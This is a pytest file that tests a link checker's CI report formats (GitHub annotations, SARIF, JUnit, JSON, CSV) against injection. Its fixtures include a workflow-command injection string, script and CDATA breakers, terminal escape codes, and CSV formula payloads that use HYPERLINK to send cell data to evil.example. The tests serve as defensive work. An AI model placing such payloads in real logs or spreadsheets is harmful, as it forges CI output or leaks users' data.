"""CI formats produced from reports with hostile strings, and parsed back."""

from __future__ import annotations

import json
import re
import xml.etree.ElementTree as ET
from io import StringIO
from pathlib import Path

import jsonschema
import pytest

from conftest import make_result
from linkcheck import FileIssue, LinkResult, Report, Status
from linkcheck._report import WRITERS

# The public SARIF 2.1.0 schema, vendored so the validation never skips.
SCHEMA = Path(__file__).resolve().parent / "data" / "sarif-schema-2.1.0.json"
HOSTILE = "https://x.example/a%2C\n::error::pwned <script>]]>\x1b[31m\u202e|`*_"


def result(
    file: str,
    line: int,
    column: int,
    url: str,
    status: Status,
    reason: str | None = None,
    **kw: object,
) -> LinkResult:
    text = str(kw.pop("text", "the text"))
    return make_result(url, status, reason, file=file, line=line, column=column, text=text, **kw)


REPORT = Report(
    files=("docs/a b.md", "docs/c.md", "docs/bad.md"),
    results=(
        result("docs/a b.md", 3, 7, HOSTILE, Status.BROKEN, "404 Not Found", http_status=404),
        result(
            "docs/a b.md",
            5,
            1,
            "#",
            Status.PLACEHOLDER,
            "link target is only '#'",
            text="READ MORE",
        ),
        result("docs/a b.md", 8, 2, "https://ok.example/", Status.OK),
        result(
            "docs/c.md",
            1,
            1,
            "https://busy.example/",
            Status.RATE_LIMITED,
            "429 Too Many Requests after 3 tries",
        ),
        result(
            "docs/c.md", 2, 1, "mailto:x@y.example", Status.SKIPPED, "mailto: links are not checked"
        ),
        result(
            "docs/c.md",
            4,
            9,
            "https://flaky.example/",
            Status.TIMEOUT,
            "no response within 10 s (3 tries)",
            flaky=True,
        ),
    ),
    file_issues=(FileIssue("docs/bad.md", "binary file (NUL bytes), not read"),),
)


def render(name: str, report: Report = REPORT) -> str:
    out = StringIO()
    WRITERS[name](report, out, color=False)
    return out.getvalue()


# Workflow command syntax: `::level props::message`, props `k=v` with escaped values.
_COMMAND = re.compile(
    r"^::(error|warning) ((?:file|line|col|title)=[^,:\n]*(?:,(?:file|line|col|title)=[^,:\n]*)*)::([^\r\n]*)$"
)


def test_github_commands_one_per_problem_none_injectable() -> None:
    lines = render("github").splitlines()
    assert all(_COMMAND.match(line) for line in lines), lines
    assert [line.split(" ", 1)[0] for line in lines] == [
        "::error", "::error", "::warning", "::warning", "::error",
    ]  # fmt: skip
    assert lines[0].startswith("::error file=docs/a b.md,line=3,col=7,title=linkcheck%3A broken::")
    assert "%0A::error::pwned" in lines[0]
    assert "\x1b" not in lines[0] and "\u202e" not in lines[0]
    assert "\\x1b[31m\\u202e" in lines[0]
    assert lines[-1] == "::error file=docs/bad.md::binary file (NUL bytes), not read"


def test_sarif_is_valid_and_locates_each_problem() -> None:
    sarif = json.loads(render("sarif"))
    jsonschema.validate(sarif, json.loads(SCHEMA.read_text()))
    (run,) = sarif["runs"]
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    assert rules == ["broken", "placeholder", "timeout", "rate_limited"]
    located = [
        (
            r["ruleId"],
            r["level"],
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            r["locations"][0]["physicalLocation"]["region"]["startLine"],
            r["locations"][0]["physicalLocation"]["region"]["startColumn"],
        )
        for r in run["results"]
    ]
    assert located == [
        ("broken", "error", "docs/a%20b.md", 3, 7),
        ("placeholder", "error", "docs/a%20b.md", 5, 1),
        ("rate_limited", "warning", "docs/c.md", 1, 1),
        ("timeout", "warning", "docs/c.md", 4, 9),
    ]
    assert all(rules[r["ruleIndex"]] == r["ruleId"] for r in run["results"])
    fingerprints = [r["partialFingerprints"]["linkcheck/v1"] for r in run["results"]]
    assert len(set(fingerprints)) == 4
    assert fingerprints == [
        r["partialFingerprints"]["linkcheck/v1"]
        for r in json.loads(render("sarif"))["runs"][0]["results"]
    ]


def test_junit_parses_and_counts() -> None:
    root = ET.fromstring(render("junit").encode())
    suites = {s.get("name"): s for s in root.iter("testsuite")}
    assert {
        name: (s.get("tests"), s.get("failures"), s.get("skipped"), s.get("errors"))
        for name, s in suites.items()
    } == {
        "docs/a b.md": ("3", "2", "0", "0"),
        "docs/bad.md": ("1", "0", "0", "1"),
        "docs/c.md": ("3", "0", "1", "0"),
    }
    (failure,) = [f for f in root.iter("failure") if f.get("type") == "broken"]
    assert "\\x1b[31m" in failure.text and "]]>" in failure.text
    assert (root.get("tests"), root.get("failures")) == ("7", "2")


@pytest.mark.parametrize("name", sorted(WRITERS))
def test_every_format_is_reachable_from_the_cli(tmp_path: Path, monkeypatch, name: str) -> None:
    from linkcheck._cli import run

    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.md").write_text("[x](#)\n")
    assert run(["--offline", "--format", "text", "--report", f"{name}:out.{name}", "a.md"]) == 1
    assert (tmp_path / f"out.{name}").read_text()


@pytest.mark.parametrize("report", [REPORT, Report(files=(), results=())], ids=["hostile", "empty"])
def test_json_report_parses_back_to_the_same_report(report: Report) -> None:
    # Read back by the reader `linkcheck merge` uses, not compared with the writer's own
    # dictionary: a field written wrong, or not at all, changes what comes back.
    from linkcheck._report.load import report_from_dict

    document = json.loads(render("json", report))
    back = report_from_dict(document)
    assert (back.files, back.results, back.file_issues, back.fail_on) == (
        report.files,
        report.results,
        report.file_issues,
        report.fail_on,
    )
    if report.results:  # and the first row, field by field, as a consumer reads it
        row = document["links"][0]
        assert (row["file"], row["line"], row["column"], row["url"]) == (
            "docs/a b.md",
            3,
            7,
            HOSTILE,
        )
        assert (row["status"], row["reason"], row["http_status"]) == (
            "broken",
            "404 Not Found",
            404,
        )


# --- CSV -----------------------------------------------------------------------------------


def test_csv_is_one_rfc4180_row_per_occurrence_with_the_json_fields() -> None:
    import csv

    from linkcheck._report.csv import COLUMNS

    written = render("csv")
    # RFC 4180: CRLF between records, a field with a line break quoted (the hostile URL).
    assert written.endswith("\r\n") and written.count("\r\n") > len(REPORT.results)
    rows = list(csv.DictReader(StringIO(written, newline="")))
    assert tuple(rows[0]) == COLUMNS
    document = json.loads(render("json"))["links"]
    assert len(rows) == len(document) == len(REPORT.results)
    for row, expected in zip(rows, document, strict=True):
        for name in ("file", "kind", "text", "url", "status", "reason", "final_url"):
            shown = "" if expected[name] is None else str(expected[name])
            assert row[name] == shown, name
        assert (int(row["line"]), int(row["column"])) == (expected["line"], expected["column"])
        assert row["shortlink"] == str(expected["shortlink"]).lower()
        assert row["http_status"] == (
            "" if expected["http_status"] is None else str(expected["http_status"])
        )
        assert json.loads(row["redirects"]) == expected["redirects"]
        assert row["flaky"] == ("true" if expected.get("flaky") else "false")
    assert rows[0]["url"] == HOSTILE  # the line break survives, quoted


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_evaluate_are_written_as_text(start: str) -> None:
    import csv

    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    report = Report(
        files=("a.md",),
        results=(result("a.md", 1, 1, attack, Status.BROKEN, attack, text=attack),),
    )
    (row,) = csv.DictReader(StringIO(render("csv", report), newline=""))
    assert row["text"] == row["url"] == row["reason"] == "'" + attack
    assert row["file"] == "a.md" and row["line"] == "1"  # nothing else is touched
